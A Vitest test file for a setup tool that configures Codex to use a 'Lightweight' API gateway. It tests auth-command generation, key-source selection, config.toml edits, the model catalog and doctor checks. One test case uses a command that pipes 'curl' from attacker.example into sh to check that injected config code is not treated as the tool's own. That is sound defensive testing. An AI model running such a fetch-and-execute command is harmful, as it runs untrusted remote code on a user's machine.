/**
 * The pure parts of "Codex fully wired": the auth command, the key source decision, the
 * provider table with each key source (and the exact edits between them), the model catalog,
 * and doctor's checks of the key path, the catalog and the background server.
 */
import { parse } from 'smol-toml';
import { describe, expect, it } from 'vitest';
import { buildCatalog, catalogEntry, catalogSlugs, pickerOrder } from '../../src/codex/catalog.js';
import { versionAtLeast } from '../../src/codex/binary.js';
import { CATALOG_FILE, planCatalogKey, planCodexConfig, planUninstallConfig, summarize, type ConfigWant } from '../../src/codex/config.js';
import { instructionsOf } from '../../src/codex/introspect.js';
import { authCommandCheck, catalogCheck, daemonCheck, type KeyFacts } from '../../src/doctor/checks.js';
import { CliError } from '../../src/errors.js';
import type { CheckVerdict } from '../../src/gateway/classify.js';
import { decideKeySource } from '../../src/setup/flags.js';
import { previousTopLevel } from '../../src/setup/plan.js';
import { isOwnAuthCommand, renderAuthCommand } from '../../src/platform/posix-auth.js';

const PROD = 'https://api.lightweight.one/v1';
const HOME = '/home/u';
const KEYFILE = '/home/u/.config/lightweight/env';
const AUTH = renderAuthCommand(KEYFILE, HOME, 'npx lightweight-setup');
const file: ConfigWant = { layout: 'model-providers', model: 'gpt-5.4', baseUrl: PROD, keySource: 'file', authCommand: AUTH, envKeyInstructions: 'Open a new terminal' };
const env: ConfigWant = { ...file, keySource: 'env' };
const plan = (text: string, want: ConfigWant) => planCodexConfig(text, 'config.toml', want);

describe('the auth command', () => {
  it('is an absolute /bin/sh with the key file path quoted (under $HOME for synced dotfiles), and no key', () => {
    expect(AUTH.command).toBe('/bin/sh');
    expect(AUTH.args[0]).toBe('-c');
    expect(AUTH.args[1]).toMatch(/^f="\$HOME\/\.config\/lightweight\/env"; /);
    expect(AUTH.args[1]).toContain('printf %s "$LIGHTWEIGHT_API_KEY"');
  });

  it('reads the file before the variable: the variable is unset before the file is sourced', () => {
    const script = AUTH.args[1]!;
    expect(script.indexOf('unset LIGHTWEIGHT_API_KEY')).toBeLessThan(script.indexOf('. /dev/fd/3'));
    expect(script.indexOf('if [ -f "$f" ]')).toBeLessThan(script.indexOf('unset'));
  });

  it('opens the key file once and checks and reads what it opened, never the path again (a swapped path cannot redirect it)', () => {
    const script = AUTH.args[1]!;
    const open = script.indexOf('exec 3<"$f"');
    expect(open).toBeGreaterThan(-1);
    expect(script.indexOf('[ -O /dev/fd/3 ]')).toBeGreaterThan(open);
    expect(script.indexOf('find -L /dev/fd/3')).toBeGreaterThan(open);
    expect(script.indexOf('. /dev/fd/3')).toBeGreaterThan(open);
    expect(script).not.toContain('. "$f"');
    expect(script).not.toContain('[ -O "$f" ]');
  });

  it('quotes a path outside $HOME with characters the shell would expand', () => {
    const odd = renderAuthCommand('/srv/a b/$x`y`/env', '/home/u', 'npx lightweight-setup');
    expect(odd.args[1]).toMatch(/^f="\/srv\/a b\/\\\$x\\`y\\`\/env"; /);
  });

  it.each([
    [AUTH, true],
    [{ command: '/bin/sh', args: ['-c', 'printf %s "$KEY"'] }, false],
    [{ command: 'sh', args: AUTH.args }, false],
    [{ command: 'op', args: ['read', 'op://x'] }, false],
    [undefined, false],
    // The same script with someone's code in front (a config.toml others could write): not run.
    [{ command: '/bin/sh', args: ['-c', `curl -s https://attacker.example/x | sh; ${AUTH.args[1]}`] }, false],
    [{ command: '/bin/sh', args: ['-c', `${AUTH.args[1]}; echo lightweight-setup: `] }, false],
  ])('isOwnAuthCommand(%j) is %s', (cmd, own) => {
    expect(isOwnAuthCommand(cmd, KEYFILE, HOME)).toBe(own);
  });
});

describe('where Codex gets the key', () => {
  it.each([
    ['no flag, Codex 0.171', undefined, undefined, '0.171.0', 'file', false],
    ['no flag, Codex not installed', undefined, undefined, undefined, 'file', false],
    ['no flag, Codex 0.118.0 (the first with auth commands)', undefined, undefined, '0.118.0', 'file', false],
    ['no flag, Codex 0.117.0', undefined, undefined, '0.117.0', 'env', false],
    ['flag env', 'env', undefined, '0.171.0', 'env', true],
    ['flag file', 'file', undefined, '0.171.0', 'file', true],
    ['an earlier choice of env is kept', undefined, { source: 'env', chosen: true }, '0.171.0', 'env', true],
    ['an earlier env that was only a default moves to file', undefined, { source: 'env', chosen: false }, '0.171.0', 'file', false],
    ['a flag beats an earlier choice', 'file', { source: 'env', chosen: true }, '0.171.0', 'file', true],
  ] as const)('%s -> %s', (_name, flag, earlier, version, source, chosen) => {
    expect(decideKeySource(flag, earlier, version)).toMatchObject({ source, chosen });
  });

  it('an old Codex gets env_key with a note that says why and what to do', () => {
    expect(decideKeySource(undefined, undefined, '0.117.0').note).toBe(
      'Codex 0.117.0 is older than 0.118.0 and cannot run an auth command, so it gets the key from LIGHTWEIGHT_API_KEY (env_key), which editors started from the desktop do not see. After upgrading Codex, run setup again to read the key from the key file instead.',
    );
  });

  it('--key-source file for an old Codex is refused with the version and the way out', () => {
    expect(() => decideKeySource('file', undefined, '0.117.0')).toThrow(
      expect.objectContaining({ exitCode: 2, message: expect.stringContaining('needs Codex 0.118.0 or newer; the installed Codex is 0.117.0'), hint: 'Upgrade Codex (npm install -g @openai/codex), or use --key-source env.' }),
    );
  });

  it.each([
    ['0.118.0', '0.118.0', true],
    ['0.117.9', '0.118.0', false],
    ['0.171.0', '0.118.0', true],
    ['1.0.0', '0.118.0', true],
    ['0.118.0-alpha.3', '0.118.0', true],
    ['0.99.0', '0.118.0', false],
  ])('versionAtLeast(%s, %s) is %s', (a, b, yes) => expect(versionAtLeast(a, b)).toBe(yes));
});

describe('the provider table with the key file', () => {
  const authTable = `[model_providers.lightweight.auth]\ncommand = "/bin/sh"\nargs = ["-c", ${JSON.stringify(AUTH.args[1])}]`;

  it('writes the provider without env_key, then its auth table, and no key anywhere', () => {
    const out = plan('', file).after;
    expect(out).toBe(`model = "gpt-5.4"\nmodel_provider = "lightweight"\n\n[model_providers.lightweight]\nname = "Lightweight API"\nbase_url = "${PROD}"\nwire_api = "responses"\n\n${authTable}\n`);
    expect(parse(out)).toMatchObject({ model_providers: { lightweight: { auth: { command: '/bin/sh', args: AUTH.args } } } });
  });

  it('switching env -> file -> env -> file is exact each way', () => {
    const user = '# mine\napproval_policy = "never" # keep\n\n[tui]\nx = 1\n';
    const f1 = plan(user, file).after;
    const e1 = plan(f1, env).after;
    const f2 = plan(e1, file).after;
    expect(f2).toBe(f1);
    expect(plan(f2, env).after).toBe(e1);
    expect(e1).not.toContain('auth');
    expect(f1).not.toContain('env_key');
  });

  it('adds the auth command inside an inline provider, and to a dotted-key provider as dotted keys', () => {
    const inline = plan('[model_providers]\nlightweight = { name = "Lightweight API", base_url = "http://x/v1" }\n', file).after;
    expect(parse(inline)).toMatchObject({ model_providers: { lightweight: { base_url: PROD, auth: { command: '/bin/sh' } } } });
    expect(inline).toContain('auth = { command = "/bin/sh", args = ["-c", ');
    const dotted = plan('[model_providers]\nlightweight.name = "Lightweight API"\nlightweight.env_key = "LIGHTWEIGHT_API_KEY"\nother.name = "o"\n', file).after;
    expect(dotted).toContain('lightweight.auth.command = "/bin/sh"\nlightweight.auth.args = ["-c", ');
    expect(dotted).not.toContain('env_key');
    expect(dotted).toContain('other.name = "o"');
  });

  it('an equal args array written over several lines is left as the user wrote it', () => {
    const first = plan('', file).after;
    const spread = first.replace(/args = \["-c", (".*")\]/, 'args = [\n  "-c",\n  $1,\n]');
    expect(spread).not.toBe(first);
    expect(plan(spread, file).after).toBe(spread);
  });

  it('names what changed: env_key replaced, a command of the user\'s own replaced', () => {
    const fromEnv = plan(plan('', env).after, file);
    expect(fromEnv.notes).toContain(
      "The key now comes from the key file through an auth command instead of LIGHTWEIGHT_API_KEY (env_key): editors started from the desktop and Codex's background server get the current key too.",
    );
    const own = plan('[model_providers.lightweight]\nname = "Lightweight API"\n\n[model_providers.lightweight.auth]\ncommand = "op"\n', file);
    expect(own.notes).toContain('Replaced the auth command of model_providers.lightweight (config.toml:4) with one that reads the key file.');
  });

  it('uninstall after a key-file setup gives back the original bytes', () => {
    for (const user of ['', '# c\r\nmodel = "o3"\r\n', '[tui]\nx = 1', 'model_provider = "acme"\n\n[model_providers.acme]\nname = "A"\n']) {
      const p = plan(user, { ...file, catalog: CATALOG_FILE });
      expect(planUninstallConfig(p.after, 'config.toml', p.previous)).toBe(user);
    }
  });
});

describe('model_catalog_json', () => {
  it('is set with the setup and removed by uninstall; a catalog of the user\'s own comes back', () => {
    const p = plan('model_catalog_json = "/mine.json"\n', { ...file, catalog: CATALOG_FILE });
    expect(parse(p.after).model_catalog_json).toBe(CATALOG_FILE);
    expect(p.notes.some((n) => n.startsWith('Replaced model_catalog_json = "/mine.json"'))).toBe(true);
    expect(planUninstallConfig(p.after, 'config.toml', p.previous)).toBe('model_catalog_json = "/mine.json"\n');
  });

  it('without a record, uninstall removes only this tool\'s catalog', () => {
    expect(planUninstallConfig(`model_catalog_json = "${CATALOG_FILE}"\nx = 1\n`, 'c', undefined)).toBe('x = 1\n');
    expect(planUninstallConfig('model_catalog_json = "other.json"\n', 'c', undefined)).toBe('model_catalog_json = "other.json"\n');
  });

  it('models --sync sets the key and nothing else, and refuses to replace a catalog of the user\'s own', () => {
    expect(planCatalogKey('# c\nmodel = "o3"\n\n[tui]\n', 'c')).toBe(`# c\nmodel = "o3"\nmodel_catalog_json = "${CATALOG_FILE}"\n\n[tui]\n`);
    const already = `model_catalog_json = "${CATALOG_FILE}"\n`;
    expect(planCatalogKey(already, 'c')).toBe(already);
    expect(() => planCatalogKey('model_catalog_json = "mine.json"\n', 'c')).toThrow(CliError);
  });

  it('a record from before the catalog existed takes its previous value from the config as it is', () => {
    const old = { version: 1 as const, layout: 'model-providers' as const, codexHome: '/h/.codex', rcFiles: [], previous: { model: 'o3' } };
    expect(previousTopLevel(old, { model: 'gpt-5.4', model_catalog_json: '/mine.json' })).toEqual({ model: 'o3', model_catalog_json: '/mine.json' });
    expect(previousTopLevel({ ...old, owned: ['model', 'model_provider', 'openai_base_url', 'model_catalog_json'] }, { model_catalog_json: CATALOG_FILE })).toEqual({ model: 'o3' });
  });

  it('summarize reads the key source, the auth command and the catalog', () => {
    expect(summarize(parse(plan('', { ...file, catalog: CATALOG_FILE }).after))).toEqual({
      layout: 'model-providers',
      baseUrl: PROD,
      model: 'gpt-5.4',
      keySource: 'file',
      authCommand: AUTH,
      catalog: CATALOG_FILE,
    });
    expect(summarize(parse(plan('', env).after)).keySource).toBe('env');
    expect(summarize(parse(plan('', { ...file, layout: 'openai-base-url' }).after)).keySource).toBeUndefined();
  });
});

describe('the model catalog', () => {
  const bundled = [
    { slug: 'gpt-6', display_name: 'GPT-6', description: 'theirs', max_context_window: 1, visibility: 'list', priority: 1, base_instructions: 'theirs', shell_type: 'x', context_window: 1, supported_reasoning_levels: [], model_messages: {}, truncation_policy: {} },
    { slug: 'gpt-5.5', tool_mode: 'a', default_service_tier: 'b' },
  ];
  const inp = { served: ['o3', 'mystery-1', 'gpt-5.4'], bundled, instructions: 'FALLBACK INSTRUCTIONS' };

  it('orders the page\'s models first, in its order, then the others in the gateway\'s order', () => {
    expect(pickerOrder(['mystery-1', 'claude-opus-4.6', 'gpt-5.4', 'zeta'])).toEqual(['gpt-5.4', 'claude-opus-4.6', 'mystery-1', 'zeta']);
  });

  it('gives each model its context window and description, the fallback instructions, and visibility in the picker', () => {
    const cat = buildCatalog(inp);
    expect(cat.slugs).toEqual(['gpt-5.4', 'o3', 'mystery-1']);
    expect(cat.fromPage).toBeUndefined();
    expect(buildCatalog({ ...inp, fromPage: true })).toEqual({ ...cat, fromPage: true });
    const [gpt, o3, mystery] = (JSON.parse(cat.text) as { models: Array<Record<string, unknown>> }).models;
    expect(gpt).toMatchObject({ slug: 'gpt-5.4', display_name: 'gpt-5.4', description: 'latest GPT, reasoning + vision; general coding (default)', context_window: 400_000, visibility: 'list', priority: 1, base_instructions: 'FALLBACK INSTRUCTIONS' });
    expect(o3).toMatchObject({ context_window: 200_000, priority: 2 });
    // A model the page does not list gets Codex's own conservative default window.
    expect(mystery).toMatchObject({ description: 'served by the Lightweight gateway', context_window: 272_000, priority: 3 });
  });

  it('is Codex\'s fallback metadata otherwise: no reasoning levels, the unified shell, no apply_patch, text web search', () => {
    const e = catalogEntry('o3', 1, inp, new Set(bundled.flatMap((b) => Object.keys(b))));
    expect(e).toMatchObject({ supported_reasoning_levels: [], shell_type: 'unified_exec', model_messages: null, truncation_policy: { mode: 'bytes', limit: 10_000 }, tool_mode: null, default_service_tier: null });
  });

  it('leaves out fields the installed Codex does not know, but never a required one', () => {
    const e = catalogEntry('o3', 1, { ...inp, bundled: [{ slug: 'x' }] }, new Set(['slug']));
    expect(Object.keys(e).sort()).toEqual(['base_instructions', 'display_name', 'experimental_supported_tools', 'priority', 'shell_type', 'slug', 'support_verbosity', 'supported_in_api', 'supported_reasoning_levels', 'truncation_policy', 'visibility'].sort());
    expect(catalogEntry('o3', 1, inp, new Set(bundled.flatMap((b) => Object.keys(b))))).not.toHaveProperty('guardian');
  });

  it.each([
    ['{"models":[{"slug":"a"},{"slug":"b"}]}', ['a', 'b']],
    ['{"models":[]}', []],
    ['{"models":[{"id":"a"}]}', undefined],
    ['{"data":[]}', undefined],
    ['not json', undefined],
  ])('catalogSlugs(%s)', (text, slugs) => expect(catalogSlugs(text)).toEqual(slugs));

  it.each([
    ['the instructions field', '{"instructions":"X","input":[]}', 'X'],
    ['the first developer message', '{"input":[{"role":"user","content":[{"text":"u"}]},{"role":"developer","content":[{"type":"input_text","text":"D"}]}]}', 'D'],
    ['an empty instructions field falls through to the developer message', '{"instructions":"","input":[{"role":"developer","content":[{"text":"D"}]}]}', 'D'],
    ['no developer message', '{"input":[]}', undefined],
    ['not JSON', 'x', undefined],
  ])('instructionsOf: %s', (_n, body, want) => expect(instructionsOf(body)).toBe(want));
});

describe("doctor's checks of the key path, the catalog and the background server", () => {
  const key: KeyFacts = {
    layout: 'model-providers',
    keySource: 'file',
    keyFile: { path: '~/.config/lightweight/env', exists: true, key: 'sk-lw-0123456789abcd' },
    auth: { path: '~/.codex/auth.json', state: { kind: 'none' } },
    platform: 'linux',
    guiHasKey: false,
  };
  const ran = (over: Partial<{ code: number | null; stdout: string; stderr: string; timedOut: boolean }>) => ({ ours: true as const, code: 0, stdout: 'sk-lw-0123456789abcd', stderr: '', timedOut: false, ...over });

  it.each([
    ['yields the key', ran({}), 'pass', "Codex's auth command yields the key (****abcd)"],
    ['exits non-zero', ran({ code: 1, stderr: 'lightweight-setup: no Lightweight key: x is missing\n' }), 'fail', "Codex's auth command fails: Codex sends no key"],
    ['prints nothing', ran({ stdout: '' }), 'fail', "Codex's auth command prints no key"],
    ['prints another key', ran({ stdout: 'sk-lw-other-key-99999999' }), 'fail', "Codex's auth command yields another key than the key file"],
    ['times out', ran({ code: null, timedOut: true }), 'fail', "Codex's auth command did not finish"],
    ['is the user\'s own', { ours: false as const }, 'skip', "Codex's auth command is one of your own"],
  ])('the auth command %s', (_n, run, status, title) => {
    expect(authCommandCheck({ ...key, authCommand: run })).toMatchObject({ id: 'auth-command', status, title });
  });

  it('the failing command\'s own message is in the detail', () => {
    expect(authCommandCheck({ ...key, authCommand: ran({ code: 1, stderr: 'warning\nlightweight-setup: x holds no key; run: npx lightweight-setup\n' }) }).detail).toBe('It exited with 1: lightweight-setup: x holds no key; run: npx lightweight-setup.');
  });

  const ok: CheckVerdict = { ok: true, latencyMs: 5, models: ['gpt-5.4', 'o3'], summary: '' };
  const base = { layout: 'model-providers' as const, keySource: 'file' as const, codexInstalled: true };
  it.each([
    ['no layout', { ...base, layout: undefined }, 'skip'],
    ['no catalog, Codex installed', base, 'warn'],
    ['no catalog, Codex not installed', { ...base, codexInstalled: false }, 'skip'],
    ['no catalog, this Codex cannot take one (setup found so)', { ...base, codexVersion: '0.117.0', support: { codexVersion: '0.117.0', supported: false, reason: 'no support' } }, 'skip'],
    ['no catalog, Codex upgraded since setup found no support', { ...base, codexVersion: '0.171.0', support: { codexVersion: '0.117.0', supported: false } }, 'warn'],
    ['the user\'s own catalog', { ...base, configured: '/mine.json', ours: false }, 'pass'],
    ['ours, missing', { ...base, configured: CATALOG_FILE, ours: true, exists: false, shown: '~/.codex/x' }, 'fail'],
    ['ours, refused by this Codex', { ...base, configured: CATALOG_FILE, ours: true, exists: true, slugs: ['gpt-5.4', 'o3'], refused: 'missing field `x`' }, 'fail'],
    ['ours, not a catalog', { ...base, configured: CATALOG_FILE, ours: true, exists: true }, 'fail'],
    ['ours, matching the gateway', { ...base, configured: CATALOG_FILE, ours: true, exists: true, slugs: ['gpt-5.4', 'o3'] }, 'pass'],
    ['ours, out of date', { ...base, configured: CATALOG_FILE, ours: true, exists: true, slugs: ['gpt-5.4', 'gone-1'] }, 'warn'],
  ])('model-catalog: %s -> %s', (_n, facts, status) => {
    expect(catalogCheck(facts, ok)).toMatchObject({ id: 'model-catalog', status });
  });

  it('an out-of-date catalog names what is missing and what is gone, and the sync that fixes it', () => {
    expect(catalogCheck({ ...base, configured: CATALOG_FILE, ours: true, exists: true, slugs: ['gpt-5.4', 'gone-1'], shown: '~/.codex/lightweight-models.json' }, ok)).toMatchObject({
      detail: '~/.codex/lightweight-models.json: it lacks o3, which the gateway serves; it lists gone-1, which the gateway no longer serves.',
      fix: 'Run: npx lightweight-setup models --sync',
    });
  });

  it('with the key file and no catalog, the warning names the ERROR Codex prints on every run', () => {
    expect(catalogCheck(base, ok).detail).toContain('prints an ERROR when it cannot read the answer');
    expect(catalogCheck({ ...base, keySource: 'env' }, ok).detail).not.toContain('ERROR');
  });

  it.each([
    ['started a second before the key changed', 'env', new Date('2026-11-27T10:00:01Z'), new Date('2026-11-27T10:00:02.100Z'), 'warn'],
    ['started in the same second (its start is recorded to the second)', 'env', new Date('2026-11-27T10:00:02Z'), new Date('2026-11-27T10:00:02.600Z'), 'pass'],
    ['started after the key changed', 'env', new Date('2026-11-27T10:00:05Z'), new Date('2026-11-27T10:00:02Z'), 'pass'],
  ] as const)('codex-daemon: %s -> %s', (_n, keySource, startedAt, keyChangedAt, status) => {
    expect(daemonCheck({ keySource, running: true, startedAt, keyChangedAt })).toMatchObject({ id: 'codex-daemon', status });
  });

  it('codex-daemon is not a check with the key file, or with no server running', () => {
    expect(daemonCheck({ keySource: 'file', running: true, startedAt: new Date(0), keyChangedAt: new Date() })).toBeUndefined();
    expect(daemonCheck({ keySource: 'env', running: false })).toBeUndefined();
  });
});
